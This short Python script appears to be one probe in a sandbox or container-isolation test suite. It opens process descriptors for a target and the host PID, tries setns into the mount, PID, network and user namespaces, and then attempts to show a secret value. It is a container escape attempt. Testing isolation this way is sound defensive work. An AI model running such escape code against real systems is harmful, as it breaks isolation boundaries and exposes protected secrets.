"""Join namespaces by a process descriptor."""

from __future__ import annotations

from inside import CLONE, TARGET, W, attempt, call, show

for pid in (TARGET, W["host_pid"]):
    pidfd = attempt(call, "pidfd_open", pid, 0)
    if pidfd is not None:
        for kind in ("mnt", "pid", "net", "user"):
            attempt(call, "setns", pidfd, CLONE[kind])
        attempt(show, W["secret"])
